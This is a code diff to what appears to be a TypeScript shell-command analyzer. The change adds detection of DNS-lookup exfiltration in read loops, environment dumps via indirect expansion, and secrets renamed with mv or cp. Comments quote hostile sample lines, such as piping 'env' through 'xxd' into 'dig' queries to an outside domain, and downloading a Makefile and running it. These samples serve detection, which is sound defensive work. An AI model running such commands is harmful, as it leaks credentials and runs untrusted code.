@@ -13,7 +13,7 @@ import { controlEffects, controlLineEffects, killLineEffects } from "./effects/c
 import { machineEffects, pipedMachineEffects } from "./effects/machine.ts";
 import { networkEffects } from "./effects/network.ts";
 import { codeEffects, powerEffects, printsSecretVar, publishEffects, spawnEffects } from "./effects/process.ts";
-import { isSecretPath, secretReads } from "./effects/secrets.ts";
+import { isSecretPath, readsContent, secretReads } from "./effects/secrets.ts";
 import { NETWORK } from "./effects/network.ts";
 import { effect, type Effect } from "./effects/types.ts";
 
@@ -37,6 +37,8 @@ function printsHelp(cmd: SimpleCommand): boolean {
   if (a.length === 2 && (a[1] === "-h" || a[1] === "-?" || a[1] === "/?")) return true;
   // Windows tools print their help for a `/?` anywhere (`net stop svc /?`); in bash `/?` could be a glob, so only these.
   if (WINDOWS_TOOL.test(cmd.program) && a.includes("/?")) return true;
+  // The AWS CLI's help is a trailing `help` word: `aws s3 rm help`, `aws configure export-credentials help`.
+  if (cmd.program === "aws" && a.length > 2 && a[a.length - 1] === "help") return true;
   // git's `-h` is help for every subcommand: `git branch -D -h`.
   if (cmd.program === "git" && a.includes("-h")) return true;
   for (let i = 1; i < a.length; i++) {
@@ -91,6 +93,16 @@ function downloads(cmd: SimpleCommand): string[] {
 
 const FETCH_PROGRAMS = new Set(["curl", "wget", "http", "xh", "fetch"]);
 
+/** `bash -n i.sh`, `sh -n`: the shell reads the script for syntax errors and runs none of it. */
+function syntaxOnly(c: SimpleCommand): boolean {
+  if (!/^(?:sh|bash|zsh|dash|ksh)$/.test(c.program)) return false;
+  for (const w of c.argv.slice(1)) {
+    if (!w.startsWith("-")) return false;
+    if (w === "--noexec" || /^-[a-zA-Z]*n[a-zA-Z]*$/.test(w)) return true;
+  }
+  return false;
+}
+
 const RUNS_FILE = /^(?:sh|bash|zsh|dash|ksh|fish|source|\.|python[0-9.]*|perl|ruby|node|php|pwsh|powershell)$/;
 
 /**
@@ -113,6 +125,8 @@ function configDump(c: SimpleCommand): boolean {
 
 /** Programs that put their arguments into a request body, header or URL (ssh and scp take a variable as a host as often). */
 const DATA_SENDERS = new Set(["curl", "wget", "http", "https", "xh", "nc", "ncat", "netcat", "socat", "invoke-webrequest", "invoke-restmethod", "iwr", "irm"]);
+/** Name lookups carry data in the name they ask for. */
+const LOOKUPS = new Set(["dig", "nslookup", "host", "drill", "ping", "ping6", "resolvectl", "getent"]);
 const LOCAL_URL = /^(?:https?:\/\/)?(?:localhost|127\.0\.0\.1|0\.0\.0\.0|\[::1\])(?:[:/]|$)/;
 
 export function lineEffects(commands: readonly SimpleCommand[]): Map<SimpleCommand, Effect[]> {
@@ -127,6 +141,8 @@ export function lineEffects(commands: readonly SimpleCommand[]): Map<SimpleComma
   /** Directories a download was unpacked into (`tar xz -C /tmp/tool`). */
   const unpackedInto: string[] = [];
   const links = new Map<string, string>();
+  /** Names a secret was moved or copied to on the line (`mv .env notes.txt`), and the secret. */
+  const renamed = new Map<string, string>();
   const add = (c: SimpleCommand, e: Effect) => out.set(c, [...(out.get(c) ?? []), e]);
   /** The last command was an endless producer piped straight into xargs (`yes |`, `seq inf |`). */
   let endlessFeed = false;
@@ -144,6 +160,10 @@ export function lineEffects(commands: readonly SimpleCommand[]): Map<SimpleComma
    * download. A literal print piped in (`echo 'npm test' | tee f`) is known text, read where the file runs.
    */
   let fedByPipe = false;
+  /** Variables a `read` filled from a pipe of the environment or of a secret file. */
+  const fedVars = new Map<string, "env" | "secret">();
+  /** Variables a `read` filled with variable names (`compgen -v`). */
+  const namesFed = new Set<string>();
   for (const c of commands) {
     // `ps -e | xargs kill -9`, `Get-Process | Stop-Process`: what the producer lists is what the consumer acts on.
     const producer = c.stdinArgs ? feeder : prev !== undefined && prev.pipeTo[0] === c.program ? prev : undefined;
@@ -154,6 +174,17 @@ export function lineEffects(commands: readonly SimpleCommand[]): Map<SimpleComma
     if (prev !== undefined && prev.pipeTo[0] === c.program && (c.program === "grep" || c.program === "egrep" || c.program === "rg") && configDump(prev) && c.argv.slice(1).some((w) => !w.startsWith("-") && SECRET_WORD.test(w))) {
       add(c, effect("secret-read", `${c.program} picks secrets out of ${prev.program}'s resolved configuration`));
     }
+    // `env | xxd -p | while read l; do dig $l.x.io; done`: the loop's variable holds the environment (or a secret) line by line.
+    if (c.program === "read" && prev !== undefined && prev.pipeTo[0] === "read") {
+      const from = prev.pipeFrom === "env" || (/^(?:env|printenv|set)$/.test(prev.program) && prev.argv.length === 1) ? "env" : effectsOf(prev).some((e) => e.kind === "secret-read") ? "secret" : undefined;
+      if (from !== undefined) for (const w of c.argv.slice(1)) if (/^[A-Za-z_]\w*$/.test(w) && fedVars.size < 16) fedVars.set(w, from);
+      // `compgen -v | while read v; do echo "$v=${!v}"; done`: the loop is handed every variable's name.
+      if ((prev.program === "compgen" && prev.argv.some((w) => w === "-v" || w === "-e"))) for (const w of c.argv.slice(1)) if (/^[A-Za-z_]\w*$/.test(w) && namesFed.size < 16) namesFed.add(w);
+    }
+    // `echo "${!v}"` over every name: the whole environment's values, printed.
+    if (namesFed.size > 0 && (c.program === "echo" || c.program === "printf") && c.argv.some((w) => [...w.matchAll(/\$\{!(\w+)\}/g)].some((m) => namesFed.has(m[1] ?? "")))) add(c, effect("secret-read", "prints the value of every variable (indirect expansion over compgen's names)"));
+    const fed = fedVars.size > 0 && (NETWORK.has(c.program) || LOOKUPS.has(c.program)) ? c.argv.flatMap((w, k) => (k > 0 && c.dynamic[k] === true ? [...w.matchAll(/\$\{?(\w+)/g)].map((m) => fedVars.get(m[1] ?? "")) : [])).find((x) => x !== undefined) : undefined;
+    if (fed !== undefined) add(c, effect("network-send", `${c.program} sends what a loop read from ${fed === "env" ? "the environment" : "a secret file"}`, [], { data: fed }));
     prev = c;
     // `source .env && curl -d "db=$DATABASE_URL" URL`: the variable's name says nothing, its origin does.
     if (secretsSourced && DATA_SENDERS.has(c.program) && c.argv.some((w, k) => k > 0 && c.dynamic[k] === true && /\$\{?[A-Za-z_]/.test(w)) && !c.argv.some((w) => LOCAL_URL.test(w))) {
@@ -178,7 +209,7 @@ export function lineEffects(commands: readonly SimpleCommand[]): Map<SimpleComma
       const first = c.argv.slice(1).find((w) => !w.startsWith("-"));
       if (fetched.has(prog) && c.argv[0] !== prog) add(c, effect("remote-code", `runs ${c.argv[0]}, downloaded earlier on the line`));
       else if (fetched.has(prog) && !["chmod", "cat", "ls", "rm", "mv", "cp", "file", "sha256sum", "shasum", "md5sum", "less", "head", "tail", "wc", "stat"].includes(prog)) add(c, effect("remote-code", `runs ${prog}, downloaded earlier on the line`));
-      else if (RUNS_FILE.test(c.program) && first !== undefined && fetched.has(base(first))) add(c, effect("remote-code", `runs ${first}, downloaded earlier on the line`));
+      else if (RUNS_FILE.test(c.program) && first !== undefined && fetched.has(base(first)) && !syntaxOnly(c)) add(c, effect("remote-code", `runs ${first}, downloaded earlier on the line`));
       // `curl x.io/Makefile -o /tmp/M && make -f /tmp/M`: a makefile's recipes are shell commands.
       else if (/^g?make$/.test(c.program)) {
         const mf = c.argv.flatMap((w, k) => (w === "-f" || w === "--file" || w === "--makefile" ? [c.argv[k + 1] ?? ""] : /^(?:-f|--file=|--makefile=)./.test(w) ? [w.replace(/^-f|^--(?:make)?file=/, "")] : []));
@@ -222,6 +253,16 @@ export function lineEffects(commands: readonly SimpleCommand[]): Map<SimpleComma
       const words = c.argv.slice(1).map((w) => w.replace(/^[\w-]*=?@/, ""));
       const read = words.find((w) => links.has(base(w)) || [...links.keys()].some((l) => w.startsWith(`${l}/`) || w.includes(`/${l}/`)));
       if (read !== undefined) add(c, effect("secret-read", `reads ${read}, a link made earlier on the line to ${links.get(base(read)) ?? "a secret"}`, [read]));
+    }
+    // `mv .env notes.txt && cat notes.txt`: the secret under a new name, read.
+    if (renamed.size > 0 && readsContent(c.program)) {
+      const read = c.argv.slice(1).find((w) => renamed.has(w) || renamed.has(base(w)));
+      if (read !== undefined) add(c, effect("secret-read", `reads ${read}, where ${renamed.get(read) ?? renamed.get(base(read)) ?? "a secret"} was put earlier on the line`, [read]));
+    }
+    if ((c.program === "mv" || c.program === "cp" || c.program === "install" || c.program === "ditto") && renamed.size < 64) {
+      const ops = c.argv.slice(1).filter((w, k) => !w.startsWith("-") && !(c.program === "install" && /^-[mog]$/.test(c.argv[k] ?? "")));
+      const [src, dst] = ops;
+      if (ops.length === 2 && src !== undefined && dst !== undefined && isSecretPath(src) && !isSecretPath(dst)) renamed.set(dst.replace(/\/+$/, ""), src).set(base(dst), src);
     }
     if (c.program === "ln") {
       const ops = c.argv.slice(1).filter((w) => !w.startsWith("-"));
